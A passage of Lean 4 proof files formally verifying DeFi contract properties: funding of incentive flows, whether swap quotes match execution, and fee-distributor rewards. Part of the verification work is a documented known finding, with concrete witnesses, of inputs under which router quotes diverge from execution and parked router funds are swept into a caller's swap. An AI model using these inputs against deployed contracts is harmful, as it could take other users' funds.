    (balOf s 4 2, balOf s 4 1, balOf s COLLECTOR 1, balOf s INC 2, s.flows.length) = (2000000, 4000, 1000, 0, 0) := by decide

end WW.C12
