/-
  C12 — Incentive flows are fully funded and fully returned.
  Property theorems only (helpers in WW/Proofs/{Claim,Flows,Ledger,FlowSums,ClaimLedger,PosDelta,HistKeys,
  FlowDelta,FlowBacked,Backed,Custody,CustodyHist,FlowExact,AssetKinds}.lean). Model: `WW.Inc.step` (engine
  `incentive`), following the repaired code (F4, F5, expand_flow TransferFrom dispatched, reset default).
  Asset ids: 0 … 4 the LP asset, two native denoms, two cw20 tokens; 5 … 9 the same names in the WRONG KIND
  (`a + 5` = look-alike of `a`). Every theorem below that speaks of "an asset `a`" holds for all ten (for
  every `a : Nat`): in particular `flow_backed` keeps a cw20 token and the native denom that spells its
  address apart — each balance covers the flows denominated in exactly that asset.
-/
import WW.Proofs.AssetKinds
namespace WW.C12
open WW WW.Gen WW.Inc

/-- Backing statement (per reward asset `a`): what the contract holds covers the flows'
    funded − claimed (plus the staked LP when `a` is the LP asset). Proved for every history by
    `flow_backed` below; also evaluated after every operation of every generated history on the real
    contracts by the monitor `C12:flow_backed`. -/
def FlowBacked (s : St) (a : Nat) (staked : Nat) : Prop :=
  ((s.flows.filter (fun f => f.asset = a)).map (fun f => f.funded - f.claimed)).sum
    + (if a = 0 then staked else 0) ≤ balOf s INC a

/-- **flow_backed**, over ALL histories: whatever sequence of operations (by any senders other than the
    contract itself, at any epochs and times, with any funds / allowances attached, failed operations
    included) is applied to a freshly instantiated contract, for EVERY asset `a` the contract's balance
    covers the unclaimed funds `funded − claimed` of all flows denominated in `a` — plus, when `a` is the
    LP asset, everything staked (all open and closed positions of all addresses). -/
theorem flow_backed (c : Cfg) (e0 : Nat) (bal : Bal) (ops : List (Env × Op)) (hs : SendersOk ops) (a : Nat) :
    FlowBacked (reach c (init e0 bal) ops) a (staked (reach c (init e0 bal) ops)) := by
  have h := (reach_backed (c := c) (init_WInv e0 bal) (init_FInv e0 bal) (init_backed e0 bal) ops hs).2 a
  unfold owed at h
  rw [ffSum_eq] at h
  exact h

/-- the same as a one-step statement from any state satisfying the invariants -/
theorem flow_backed_step {c : Cfg} {s s' : St} {e : Env} {op : Op} (hW : WInv s) (hF : FInv s)
    (hB : ∀ a, FlowBacked s a (staked s)) (hs : e.sender ≠ INC) (h : step c s e op = .ok s') (a : Nat) :
    FlowBacked s' a (staked s') := by
  have hB' : Backed s := by
    intro a; have := hB a; unfold FlowBacked at this; unfold owed; rw [ffSum_eq]; exact this
  have h := (step_backed hW hF hB' hs h).2 a
  unfold owed at h
  rw [ffSum_eq] at h
  exact h

/-- **claims_le_funded**, over ALL histories (no assumption at all on senders, epochs or funds): no
    flow's claimed amount ever exceeds its funded amount (the latest expanded amount, or the original one);
    in particular `expand_flow` (including its reset branch) never drops funded below claimed. Flow ids are
    distinct and never reused. -/
theorem claims_le_funded (c : Cfg) (e0 : Nat) (bal : Bal) (ops : List (Env × Op)) :
    (∀ f ∈ (reach c (init e0 bal) ops).flows, f.claimed ≤ f.funded)
    ∧ (flowIds (reach c (init e0 bal) ops).flows).Nodup
    ∧ (∀ f ∈ (reach c (init e0 bal) ops).flows, f.id ≤ (reach c (init e0 bal) ops).flowCounter) := by
  have h := reach_FInv (c := c) (init_WInv e0 bal) (init_FInv e0 bal) ops
  exact ⟨h.claimed_le, h.ids_nodup, h.ids_le⟩

/-- … and a whole claim pays, per asset, exactly the total increase of the claimed amounts of the flows
    in that asset, and pulls nothing: `Σ_flows(funded − claimed)` after + paid out = before. -/
theorem claim_pays_exactly_increase {s : St} {u epoch : Nat} {fl' : List Flow} {msgs : List Msg} (hu : u ≠ INC)
    (hle : ∀ f ∈ s.flows, f.claimed ≤ f.funded) (h : claimFlows s u epoch s.flows = .ok (fl', msgs)) (a : Nat) :
    ffSum a fl' + outsOf INC a msgs = ffSum a s.flows ∧ insOf INC a msgs = 0
    ∧ (∀ x ∈ msgs, ∃ asset amt, x = Msg.send INC u asset amt) := by
  obtain ⟨_, c2, c3, c4⟩ := claimFlows_ledger _ _ _ h
  exact ⟨(c2 hle).2 hu a, c3 hu a, c4⟩

/-- **close_auth**: only the flow's creator or the factory owner can close a flow. -/
theorem close_auth {c : Cfg} {s s' : St} {e : Env} {id : Nat} (hoff : e.offers = [])
    (h : step c s e (.closeFlow id) = .ok s') :
    ∃ f, findFlow s.flows id = some f ∧ (f.creator = e.sender ∨ e.sender = OWNER) := by
  obtain ⟨f, hf, ha, _, _⟩ := step_closeFlow hoff h
  exact ⟨f, hf, ha⟩

/-- **close_returns_exact**: closing a flow pays exactly `funded − claimed` (funded = the latest
    expanded amount, or the original one) of the flow's asset to the flow's *creator* — whoever the
    sender is — out of the contract's balance, and removes the flow. -/
theorem close_returns_exact {c : Cfg} {s s' : St} {e : Env} {id : Nat} (hoff : e.offers = [])
    (h : step c s e (.closeFlow id) = .ok s') :
    ∃ f, findFlow s.flows id = some f ∧ findFlow s'.flows id = none
      ∧ (f.creator ≠ INC →
          balOf s' f.creator f.asset = balOf s f.creator f.asset + (f.funded - f.claimed)
          ∧ balOf s' INC f.asset + (f.funded - f.claimed) = balOf s INC f.asset) := by
  obtain ⟨f, hf, _, hn, hb⟩ := step_closeFlow hoff h
  exact ⟨f, hf, hn, hb⟩

/-- **claims_le_funded** (claim side): one iteration of the claim loop never lets the flow's claimed
    amount exceed the flow's expanded funded amount, and pays out exactly the increase.
    (Per-iteration form kept from the first version; the whole-history statement is `claims_le_funded`.) -/
theorem claims_le_funded_partial {s : St} {u expAmt expEnd ep : Nat} {st st' : ClaimLoop}
    (hle : st.flow.claimed ≤ expAmt)
    (h : claimEpoch s u expAmt expEnd st ep = .ok (.next st')) :
    st'.flow.claimed ≤ expAmt
    ∧ st'.msgs = st.msgs ++ (if st'.flow.claimed = st.flow.claimed then []
        else [Msg.send INC u st.flow.asset (st'.flow.claimed - st.flow.claimed)]) :=
  ⟨claimEpoch_claimed_le hle h, (claimEpoch_le_emission h).2⟩

/-- **open_expand_exact** (expansion, funds side; kept from the first version): an accepted expansion of a
    cw20 flow carries exactly one `TransferFrom` of the stated amount from the sender to the contract; an
    accepted expansion of a native flow has exactly the stated amount of the flow's denom — and no other
    coin — attached. -/
theorem open_expand_exact_partial {c : Cfg} {e : Env} {a amount : Nat} {m : List Msg}
    (h : expandFlowFunds c e a amount = .ok m) :
    (c.native a = true ∧ fundsOf c e.offers = [(a, amount)] ∧ amount ≠ 0 ∧ m = [])
    ∨ (c.native a = false ∧ amount ≤ aget (allowOf c e.offers) a ∧ m = [.pull e.sender INC a amount]) :=
  expandFlowFunds_spec h

/-- **open_expand_exact** (expand), over ALL epoch-monotone histories: after any history from a fresh
    contract whose epochs never go back, an accepted `expand_flow` (by a sender other than the contract) of
    `amt` of flow `id` raises that flow's unclaimed funds `funded − claimed` by exactly `amt` (also through
    the reset branch, where the unclaimed rest becomes a fresh flow), keeps asset and creator, and raises
    the contract's balance of the flow asset by exactly `amt`. -/
theorem open_expand_exact_expand (c : Cfg) (e0 : Nat) (bal : Bal) (ops : List (Env × Op)) (e : Env)
    (id a amt : Nat) (en : Option Nat) (s' : St)
    (hep : EpochsFrom e0 (ops ++ [(e, .expandFlow id a amt en)])) (hs : e.sender ≠ INC)
    (h : step c (reach c (init e0 bal) ops) e (.expandFlow id a amt en) = .ok s') :
    ∃ f f2, findFlow (reach c (init e0 bal) ops).flows id = some f ∧ findFlow s'.flows id = some f2
      ∧ f.asset = a ∧ f2.asset = a ∧ f2.creator = f.creator
      ∧ f2.claimed ≤ f2.funded ∧ f2.funded - f2.claimed = f.funded - f.claimed + amt
      ∧ balOf s' INC a = balOf (reach c (init e0 bal) ops) INC a + amt := by
  have hW := reach_WInv (c := c) (init_WInv e0 bal) ops
  have hF := reach_FInv (c := c) (init_WInv e0 bal) (init_FInv e0 bal) ops
  have hH : HistLe (init e0 bal) e0 := fun f hf => by cases hf
  have hH' := reach_HistLe (c := c) e (.expandFlow id a amt en) ops (init e0 bal) e0 (init_WInv e0 bal)
    (init_FInv e0 bal) hH hep
  exact step_expandFlow_exact hW hF hH' hs h

/-- **open_expand_exact** (open), over ALL histories: after any history from a fresh contract, an accepted
    `open_flow` (sender neither the contract nor the fee collector, coins with distinct denoms) records a
    flow with a fresh id for the sender, with nothing claimed, funded with the declared amount (less the
    fee when the fee is charged in the flow asset itself); the contract's balance of the flow asset grows
    by exactly the funded amount and the collector's balance of the fee asset by exactly the fee. -/
theorem open_expand_exact_open (c : Cfg) (e0 : Nat) (bal : Bal) (ops : List (Env × Op)) (e : Env)
    (a amt : Nat) (st en : Option Nat) (s' : St)
    (hs : e.sender ≠ INC) (hsc : e.sender ≠ COLLECTOR) (hn : (keysOf e.offers).Nodup)
    (h : step c (reach c (init e0 bal) ops) e (.openFlow a amt st en) = .ok s') :
    ∃ f, findFlow s'.flows ((reach c (init e0 bal) ops).flowCounter + 1) = some f
      ∧ findFlow (reach c (init e0 bal) ops).flows ((reach c (init e0 bal) ops).flowCounter + 1) = none
      ∧ f.creator = e.sender ∧ f.asset = a ∧ f.claimed = 0
      ∧ f.funded = (if c.feeAsset = a then amt - c.feeAmt else amt)
      ∧ balOf s' INC a = balOf (reach c (init e0 bal) ops) INC a + f.funded
      ∧ balOf s' COLLECTOR c.feeAsset = balOf (reach c (init e0 bal) ops) COLLECTOR c.feeAsset + c.feeAmt :=
  step_openFlow_exact (reach_FInv (c := c) (init_WInv e0 bal) (init_FInv e0 bal) ops) hs hsc hn h

/-- **wrong kind, expansion**: `expand_flow` is accepted only when the asset it names is exactly the flow's
    own asset — same kind AND same name (asset ids are `AssetInfo` values). So a flow in a cw20 token cannot
    be expanded by naming (and paying in) the native denom that spells the token's address, nor the other
    way round; together with `open_expand_exact_expand` an accepted expansion brings in exactly `amt` of the
    flow's own asset. Any state, any sender, any funds. -/
theorem expand_names_flow_asset {c : Cfg} {s s' : St} {e : Env} {id a amt : Nat} {en : Option Nat} {f : Flow}
    (hf : findFlow s.flows id = some f) (h : step c s e (.expandFlow id a amt en) = .ok s') : f.asset = a :=
  step_expandFlow_names_asset hf h

/-- the look-alike form of it: a flow in one of the five assets `x` is never expanded by a message naming
    `x + 5`, and a flow in a look-alike `x + 5` never by a message naming `x` -/
theorem expand_lookalike_refused {c : Cfg} {s s' : St} {e : Env} {id x amt : Nat} {en : Option Nat} {f : Flow}
    (hf : findFlow s.flows id = some f) :
    (f.asset = x → step c s e (.expandFlow id (x + 5) amt en) ≠ .ok s')
    ∧ (f.asset = x + 5 → step c s e (.expandFlow id x amt en) ≠ .ok s') := by
  refine ⟨fun hx h => ?_, fun hx h => ?_⟩
  · have := step_expandFlow_names_asset hf h; omega
  · have := step_expandFlow_names_asset hf h; omega

/-- **wrong kind, kinds**: the look-alike `a + 5` of each of the five assets has the other kind; it is a
    token without a contract exactly when `a` is native -/
theorem lookalike_kind (c : Cfg) {a : Nat} (h : a < 5) :
    c.native (a + 5) = !c.native a ∧ c.dead (a + 5) = c.native a ∧ c.dead a = false :=
  ⟨native_lookalike c h, dead_lookalike c h, base_not_dead c h⟩

/-- **wrong kind, token that does not exist**: `open_flow` and `expand_flow` naming the cw20 `Token` that
    spells a native denom are refused in every state, whatever is attached (the coins of the denom itself
    included) — a refused operation changes nothing (`stepOrStay`). -/
theorem dead_token_flow_refused {c : Cfg} {s s' : St} {e : Env} {a amt : Nat} (hd : c.dead a = true) :
    (∀ st en, step c s e (.openFlow a amt st en) ≠ .ok s')
    ∧ (∀ id en, step c s e (.expandFlow id a amt en) ≠ .ok s') :=
  ⟨fun _ _ h => step_openFlow_dead hd h, fun _ _ h => step_expandFlow_dead hd h⟩

/-- non-vacuity of the look-alike clauses: cw20 A (asset 3) and the native denom spelling its address
    (asset 8). Dave opens a flow of 5000 in the token; expanding it with 700 look-alike COINS is refused
    (nothing moves); he opens a flow of 6000 in the look-alike denom (accepted: it is just another denom),
    expanding THAT with the token's allowance is refused, with the coins accepted. The contract then holds
    5000 of the token and 6700 of the denom — each flow backed in its own asset — and `uwhale` named as a
    token is refused although the coins are attached. -/
example :
    let c : Cfg := { lpNative := false, feeAsset := 1, feeAmt := 10, maxFlows := 3, buffer := 5, minDur := 86400, maxDur := 31556926 }
    let s0 := init 1 [((4, 1), 100), ((4, 2), 9000), ((4, 3), 9000), ((4, 8), 9000)]
    let s := reach c s0 [({ epoch := 1, time := 100, sender := 4, offers := [(1, 10), (3, 5000)] }, .openFlow 3 5000 none (some 10)),
                         ({ epoch := 1, time := 101, sender := 4, offers := [(8, 700)] }, .expandFlow 1 8 700 none),
                         ({ epoch := 1, time := 102, sender := 4, offers := [(1, 10), (8, 6000)] }, .openFlow 8 6000 none (some 10)),
                         ({ epoch := 1, time := 103, sender := 4, offers := [(3, 700)] }, .expandFlow 2 3 700 none),
                         ({ epoch := 1, time := 104, sender := 4, offers := [(8, 700)] }, .expandFlow 2 8 700 none),
                         ({ epoch := 1, time := 105, sender := 4, offers := [(1, 10), (2, 5000)] }, .openFlow 7 5000 none (some 10))]
    (balOf s INC 3, balOf s INC 8, balOf s 4 3, balOf s 4 8, balOf s 4 2) = (5000, 6700, 4000, 2300, 9000)
    ∧ s.flows.map (fun f => f.asset) = [3, 8] ∧ s.flows.map (fun f => f.funded) = [5000, 6700] := by decide

/-- non-vacuity: dave opens a native flow of 1 000 000 `ureward` (fee 1000 `uwhale`), expands it by
    500 000, the owner closes it: dave gets 1 500 000 back, the collector keeps the fee, the contract 0 -/
example :
    let c : Cfg := { lpNative := false, feeAsset := 1, feeAmt := 1000, maxFlows := 3, buffer := 5, minDur := 86400, maxDur := 31556926 }
    let s0 := init 1 [((4, 1), 5000), ((4, 2), 2000000)]
    let s := reach c s0 [({ epoch := 1, time := 100, sender := 4, offers := [(1, 1000), (2, 1000000)] }, .openFlow 2 1000000 none (some 10)),
                         ({ epoch := 2, time := 200, sender := 4, offers := [(2, 500000)] }, .expandFlow 1 2 500000 none),
                         ({ epoch := 3, time := 300, sender := 5, offers := [] }, .closeFlow 1)]
    (balOf s 4 2, balOf s 4 1, balOf s COLLECTOR 1, balOf s INC 2, s.flows.length) = (2000000, 4000, 1000, 0, 0) := by decide

end WW.C12
