/-
  C14 — Quotes are honest: simulation equals execution.
  Property theorems only (helpers live in WW/Proofs/Quotes.lean). The model
  (WW/Model/Quotes.lean) replicates the constant-product pair's `Simulation` query and `swap`
  handler and the pool router's `SimulateSwapOperations` / `ExecuteSwapOperations`; it is tied
  to the Rust by the `quotes` correspondence engine (real factory + pairs + router, native and
  cw20 assets).

  Clauses of the property and where they are:
    * pair, constant product : `sim_eq_exec_pair`                      (this part)
    * router, 1..n hops      : `route_sim_eq_exec`, `route_revisit_counterexample`,
                               `route_prefunded_counterexample`        (this part)
    * three-asset stableswap : `trio_sim_eq_exec`        — HOOK, see the end of the file
    * vault share query      : `vault_share_eq_withdraw` — HOOK, see the end of the file
-/
import WW.Proofs.Quotes
import WW.Proofs.Trio
import WW.Proofs.Vault
namespace WW.C14
open WW WW.Quotes

/-! ## Pair: `Simulation` vs executed swap -/

/-- **Clause 1 (constant-product pair).** For *every* pool state (any balances, any pending
    protocol fees, any fees — no well-formedness assumed), every offer of either asset and every
    payer / receiver, if the swap executes then the `Simulation` query on the state before it
    returns exactly the executed computation `c` — return, spread, swap fee, protocol fee, burn
    fee — and those are the amounts transferred and recorded (`SwapEffect`): the offer is on the
    pair, `c.ret` went to the receiver and `c.burnFee` was burnt from the ask balance,
    `c.protFee` was added to the pending and all-time ledgers, `c.burnFee` to the burn ledger.
    Native and cw20 offers alike: in both the offer has landed before the handler reads its
    balance, and the handler subtracts it again — the content of the theorem is that
    `balance + offer − pending − offer` (execute pools) is `balance − pending` (query pools). -/
theorem sim_eq_exec_pair (cfg : Cfg) (s : St) (i asset amt : Nat) (ms : Option Nat)
    (fromRouter toRouter : Bool) {s' : St} {c : SwapComp}
    (h : executeSwap cfg s i asset amt ms fromRouter toRouter = .ok (s', c)) :
    simulate cfg s i asset amt = .ok c ∧
    ∃ pc k, cfg.pairs[i]? = some pc ∧ sideOf pc asset = some k ∧
      SwapEffect (s.pool i) (s'.pool i) k amt c := by
  refine ⟨executeSwap_sim h, ?_⟩
  obtain ⟨pc, k, ps', rO, rA, hpc, hk, hsw, _, _, hp, _⟩ := executeSwap_ok h
  refine ⟨pc, k, hpc, hk, ?_⟩
  rw [hp, set_same]
  exact (swapCore_ok hsw).2.1

/-- **Clause 1 for every two-asset pair type.** `query_simulation` and `swap` are the same code
    for `ConstantProduct` and `StableSwap` pairs; only `helpers::compute_swap` differs. With that
    function (pair type, fees, amplification and decimals applied) treated as an *arbitrary*
    function `compute` of (offer pool, ask pool, offer amount), the executed computation is still
    the simulated one and is what is transferred and recorded. (`sim_eq_exec_pair` is the
    constant-product instance inside the full state machine; the stableswap function itself is
    not replicated here and this instance is not covered by the `quotes` correspondence.) -/
theorem sim_eq_exec_pool_any_type (compute : Compute) (ps : PoolSt) (k : Bool) (amt : Nat)
    (ms : Option Nat) {ps' : PoolSt} {c : SwapComp}
    (h : swapCoreG compute ps k amt ms = .ok (ps', c)) :
    simCoreG compute ps k amt = .ok c ∧ SwapEffect ps ps' k amt c :=
  ⟨(swapCoreG_ok h).1, (swapCoreG_ok h).2.1⟩

/-- the receiver is paid the quoted return: when proceeds go to the router (a non-final hop) its
    balance of the ask asset grows by exactly the simulated `return_amount` -/
theorem pair_proceeds_to_router (cfg : Cfg) (s : St) (i : Nat) (h : Hop) (ms : Option Nat)
    {s' : St} {c : SwapComp} (hr : resolve cfg h = some i) (hne : h.ask ≠ h.offer)
    (he : executeSwap cfg s i h.offer (s.router h.offer) ms true true = .ok (s', c)) :
    s'.router h.ask = s.router h.ask + c.ret ∧ s'.router h.offer = 0 := by
  obtain ⟨_, hrt⟩ := executeSwap_router hr he
  rw [hrt]
  simp only [if_true]
  constructor
  · rw [set_same, set_other _ _ hne]
  · rw [set_other _ _ (Ne.symm hne), set_same]

/-- a swap on one pair changes no other pool (frame) -/
theorem swap_changes_only_its_pool (cfg : Cfg) (s : St) (i asset amt : Nat) (ms : Option Nat)
    (fromRouter toRouter : Bool) {s' : St} {c : SwapComp}
    (h : executeSwap cfg s i asset amt ms fromRouter toRouter = .ok (s', c)) (j : Nat) (hj : j ≠ i) :
    s'.pool j = s.pool j :=
  executeSwap_frame h hj

/-! ## Router: `SimulateSwapOperations` vs `ExecuteSwapOperations` -/

/-- The router clause at full strength — **false on the current code**, see the witnesses below. -/
def RouteQuoteHonest : Prop :=
  ∀ (cfg : Cfg) (s : St) (ops : List Hop) (offer : Nat) (ms : Option Nat) (s' : St) (recv : Nat),
    executeSwapOperations cfg s ops offer ms = .ok (s', recv) →
    simulateSwapOperations cfg s ops offer = .ok recv

/-- **Clause 2 (router).** For every state, every route of any length (1, 2, 3, … hops) over
    native and cw20 assets, every offer and spread limit: if no pair is visited twice and the
    router holds none of the assets the route offers (entry asset and intermediates — the code
    offers the router's *whole balance* at every hop, the first included), then whenever the
    operations execute, `SimulateSwapOperations` returned exactly the amount the receiver got.
    Induction over the hops with the frame lemma `swap_changes_only_its_pool`; that the route is
    a chain need not be assumed (an unchained hop offers a zero balance and cannot execute). -/
theorem route_sim_eq_exec (cfg : Cfg) (s : St) (ops : List Hop) (offer : Nat) (ms : Option Nat)
    (hd : DistinctPairs cfg ops) (hr : RouterHoldsNone s ops)
    {s' : St} {recv : Nat} (h : executeSwapOperations cfg s ops offer ms = .ok (s', recv)) :
    simulateSwapOperations cfg s ops offer = .ok recv := by
  unfold executeSwapOperations at h
  cases ops with
  | nil => cases h
  | cons h0 rest =>
    simp only at h
    split at h
    · cases h
    · split at h
      · cases h
      · split at h
        · rename_i r0 hr0
          obtain ⟨_, hr0⟩ := cadd_eq_ok hr0
          unfold simulateSwapOperations
          simp only [List.isEmpty_cons, Bool.false_eq_true, if_false]
          refine execHops_sim cfg ms s (h0 :: rest) _ h0.offer offer s' recv hd ?_ ?_ h
          · intro j _; rfl
          · intro h' hh'
            show set s.router h0.offer r0 h'.offer = _
            by_cases e : h'.offer = h0.offer
            · rw [if_pos e, e, set_same, hr0, hr h0 (List.mem_cons_self ..)]
              omega
            · rw [if_neg e, set_other _ _ e]
              exact hr h' hh'
        · cases h
        · cases h

/-! ### the hypotheses cannot be dropped: kernel-checked witnesses on the model, the same inputs
    are replayed on the real contracts (replays/known/C14-route-revisits-pair.json) -/

/-- 1 ‰ protocol fee, 2 ‰ swap fee, no burn fee -/
def feesK : Fees := { prot := 1000000000000000, swap := 2000000000000000, burn := 0 }

/-- four pairs over assets 0,1 (native) and 2,3 (cw20): 0-1, 1-2, 2-3, 2-0 -/
def cfgK : Cfg :=
  { pairs := [⟨0, 1, feesK⟩, ⟨1, 2, feesK⟩, ⟨2, 3, feesK⟩, ⟨2, 0, feesK⟩]
    native := fun a => decide (a < 2) }

/-- every pool 10⁹ / 10⁹, no pending fees; `r` = the router's balance of asset 1 -/
def stK (r : Nat) : St :=
  { pool := fun _ => { bal := fun _ => 1000000000, pend := fun _ => 0, allTime := fun _ => 0,
                       burned := fun _ => 0 }
    router := fun a => if a = 1 then r else 0 }

def half : Option Nat := some 500000000000000000

/-- **Known finding C14-route-revisits-pair** (DESIGN §6 row 12): `[uluna→uusd, uusd→uluna]` through
    one pool 10⁹/10⁹, offer 10⁸ — simulated 82 854 796, executed 99 409 936, with an empty router. -/
theorem route_revisit_counterexample :
    simulateSwapOperations cfgK (stK 0) [⟨0, 1⟩, ⟨1, 0⟩] 100000000 = .ok 82854796
    ∧ recvOf (executeSwapOperations cfgK (stK 0) [⟨0, 1⟩, ⟨1, 0⟩] 100000000 half) = .ok 99409936
    ∧ RouterHoldsNone (stK 0) [⟨0, 1⟩, ⟨1, 0⟩]
    ∧ ¬ DistinctPairs cfgK [⟨0, 1⟩, ⟨1, 0⟩] := by
  decide

/-- The second hypothesis cannot be dropped either: pairwise distinct pairs `[0→1, 1→2]`, but the
    router already holds 5·10⁶ of asset 1 — simulated 82 854 796, executed 87 026 552 (the parked
    funds are swept into the caller's swap). -/
theorem route_prefunded_counterexample :
    simulateSwapOperations cfgK (stK 5000000) [⟨0, 1⟩, ⟨1, 2⟩] 100000000 = .ok 82854796
    ∧ recvOf (executeSwapOperations cfgK (stK 5000000) [⟨0, 1⟩, ⟨1, 2⟩] 100000000 half) = .ok 87026552
    ∧ DistinctPairs cfgK [⟨0, 1⟩, ⟨1, 2⟩]
    ∧ ¬ RouterHoldsNone (stK 5000000) [⟨0, 1⟩, ⟨1, 2⟩] := by
  decide

private theorem recvOf_ok {x : Res (St × Nat)} {r : Nat} (h : recvOf x = .ok r) :
    ∃ s', x = .ok (s', r) := by
  cases x with
  | ok p =>
    obtain ⟨s', r'⟩ := p
    unfold recvOf at h
    injection h with h
    exact ⟨s', by rw [← h]⟩
  | err => cases h
  | panic => cases h

/-- the unrestricted router clause fails on the current code -/
theorem route_quote_not_honest_in_general : ¬ RouteQuoteHonest := by
  intro H
  obtain ⟨hsim, hexec, _, _⟩ := route_revisit_counterexample
  obtain ⟨s', he⟩ := recvOf_ok hexec
  have := H _ _ _ _ _ _ _ he
  rw [hsim] at this
  exact absurd this (by decide)

/-! ### non-vacuity -/

/-- a three-hop route over pairwise distinct pairs (native → native → cw20 → native) meets both
    hypotheses, executes, and pays what was simulated -/
example :
    DistinctPairs cfgK [⟨0, 1⟩, ⟨1, 2⟩, ⟨2, 0⟩] ∧ RouterHoldsNone (stK 0) [⟨0, 1⟩, ⟨1, 2⟩, ⟨2, 0⟩]
    ∧ recvOf (executeSwapOperations cfgK (stK 0) [⟨0, 1⟩, ⟨1, 2⟩, ⟨2, 0⟩] 100000000 half) = .ok 76285603
    ∧ simulateSwapOperations cfgK (stK 0) [⟨0, 1⟩, ⟨1, 2⟩, ⟨2, 0⟩] 100000000 = .ok 76285603 := by
  decide

/-- a pool with pending protocol fees: cw20 offer (asset 2 on pair 2-0) of 10⁶ under the default
    1 % spread limit; quote and execution agree on all five amounts -/
example :
    let s : St := { stK 0 with pool := fun _ =>
      { bal := fun _ => 1000000000, pend := fun k => if k then 90909 else 7, allTime := fun _ => 90909,
        burned := fun _ => 0 } }
    simulate cfgK s 3 2 1000000 = .ok ⟨995915, 999, 1997, 998, 0⟩
    ∧ compOf (executeSwap cfgK s 3 2 1000000 none false false) = .ok ⟨995915, 999, 1997, 998, 0⟩ := by
  decide

/-! ## HOOKS for the other pool types (added by the builders of those parts)

  * `trio_sim_eq_exec`        — stableswap_3pool `Simulation` vs `swap`: the amounts the query returns
                                are the amounts transferred and recorded (model: WW/Model/Trio*.lean).
  * `vault_share_eq_withdraw` — vault `Share { amount }` query vs `withdraw` of that many shares
                                (model: WW/Model/Vault*.lean).
  Add the imports at the top of this file and the theorems below this comment, inside
  `namespace WW.C14`.
-/

/-- **Three-asset stableswap**: whenever a swap executes, the `Simulation` query on the pre-state (same
    block, same offer) returns a computation `c`, and the swap transfers and records exactly `c`: the
    receiver gets `c.ret`, the pending and all-time protocol-fee ledgers grow by `c.protFee`, the burn
    ledger and the asset's supply move by `c.burnFee`; native and cw20 offers alike
    (model WW/Model/Trio.lean, tied to the real 3pool by engine `trio`). -/
theorem trio_sim_eq_exec {s s' : WW.Trio.St} {h u offer ask amt : Nat} {bp ms rc : Option Nat}
    (hs : WW.Trio.swap s h u offer ask amt bp ms rc = .ok s') :
    ∃ c, WW.Trio.simulate s h offer ask amt = .ok c ∧
      s'.ub (rc.getD u) ask = s.ub (rc.getD u) ask + c.ret ∧
      s'.pend ask = s.pend ask + c.protFee ∧ s'.allTime ask = s.allTime ask + c.protFee ∧
      s'.burned ask = s.burned ask + c.burnFee ∧ s'.sup ask = s.sup ask - c.burnFee ∧
      s'.bal offer = s.bal offer + amt ∧ s'.bal ask = s.bal ask - c.ret - c.burnFee :=
  WW.Trio.trio_sim_eq_exec hs

/-- **Vault**: the `Share { amount }` query (`shareOf`) is exactly what a withdrawal of that many
    shares pays: the withdrawer's balance grows by it and the vault's balance drops by it
    (model WW/Model/Vault.lean, tied to the real vault by engine `vault`, which queries `Share`
    immediately before every withdrawal). -/
theorem vault_share_eq_withdraw {s s' : WW.Vault.St} {who lp : Nat} (hw : who < s.ab.length)
    (h : WW.Vault.withdraw s who lp = some s') :
    WW.Vault.getN s'.ab who = WW.Vault.getN s.ab who + WW.Vault.shareOf s lp ∧
    s'.bal = s.bal - WW.Vault.shareOf s lp := by
  obtain ⟨_, rfl⟩ := WW.Vault.withdraw_ok_of_some h
  constructor
  · simp only [WW.Vault.withdrawRes]
    exact WW.Vault.getN_setN_same _ _ _ hw
  · simp only [WW.Vault.withdrawRes]

end WW.C14
