/-
  Regenerated FRAGMENT kernel ↔ hand-written model, C09: the reward that the fee distributor's `claim`
  (`fee_distributor/src/commands.rs`) computes INLINE for every asset of an epoch's `total` —
  `fee.amount.checked_mul_floor(bonding_weight_response.share)?` — against the reward of `WW.Distributor.claimFee`
  (`WW/Model/Distributor.lean`), on which C09's ledger equalities (`epoch_ledger`, `payout_eq_ledger_delta`) rest.
  `WW.Gen.K.distributor_claim_reward` is regenerated from the handler's source lines on every check run by
  `tools/rs2lean.py` (fragment kernel: `fee.amount` and the lair's answer `bonding_weight_response.share` are
  parameters); the theorems below are proof obligations of C09.  Theorems only.
-/
import WW.Gen.Kernels
import WW.Proofs.Kernels
import WW.Model.Distributor
namespace WW.KernelsDistClaim
open WW WW.Gen WW.Distributor

/-- closed form for ALL totals and shares: `⌊total · share / 10¹⁸⌋`, `Err` when that leaves 128 bits, never a panic -/
theorem gen_distributor_claim_reward_closed (t sh : Nat) :
    K.distributor_claim_reward t sh = if t * sh / E18 ≤ U128MAX then .ok (t * sh / E18) else .err := by
  unfold K.distributor_claim_reward mulRatioC
  rw [if_neg (by decide : ¬ E18 = 0)]

/-- **The model's per-asset claim step runs on the code's reward**: `claimFee` is the regenerated statement followed by
    the rest of the loop body with that reward (skip when zero, `Invalid fee` when the asset is not in `available`,
    aggregate, subtract from `available`, record in `claimed`), for EVERY share, asset, total and ledgers. -/
theorem gen_distributor_claim_reward_eq_model (sh k t : Nat) (av cl acc : Ledger) :
    claimFee sh k t av cl acc =
      (K.distributor_claim_reward t sh).bind fun r =>
        if r = 0 then .ok (av, cl, acc)
        else if hasKey k av = false then .err
        else
          match aggOne acc k r with
          | .ok acc' =>
            match subAll k r av with
            | .ok av' =>
              match recordClaimed k r cl with
              | .ok cl' => .ok (av', cl', acc')
              | .err => .err
              | .panic => .panic
            | .err => .err
            | .panic => .panic
          | .err => .err
          | .panic => .panic := by
  rw [gen_distributor_claim_reward_closed]
  unfold claimFee
  by_cases h : t * sh / E18 ≤ U128MAX
  · rw [if_pos h, if_neg (by omega : ¬ t * sh / E18 > U128MAX)]; rfl
  · rw [if_neg h, if_pos (by omega : t * sh / E18 > U128MAX)]; rfl

/-- a share of at most one never pays more than the epoch's total of the asset -/
theorem reward_le_total (t sh : Nat) (hs : sh ≤ E18) (ht : t ≤ U128MAX) :
    K.distributor_claim_reward t sh = .ok (t * sh / E18) ∧ t * sh / E18 ≤ t := by
  have hle : t * sh / E18 ≤ t := by
    apply Nat.div_le_of_le_mul
    rw [Nat.mul_comm E18 t]
    exact Nat.mul_le_mul_left t hs
  exact ⟨by rw [gen_distributor_claim_reward_closed, if_pos (Nat.le_trans hle ht)], hle⟩

/-- non-vacuity: a third (0.333333333333333333) of 1 000 000 -/
example : K.distributor_claim_reward 1000000 333333333333333333 = .ok 333333 := by decide

end WW.KernelsDistClaim
