/-
  Regenerated FRAGMENT kernel ↔ hand-written model, C04 / C18: the amplification-ramp validation that the 3pool's
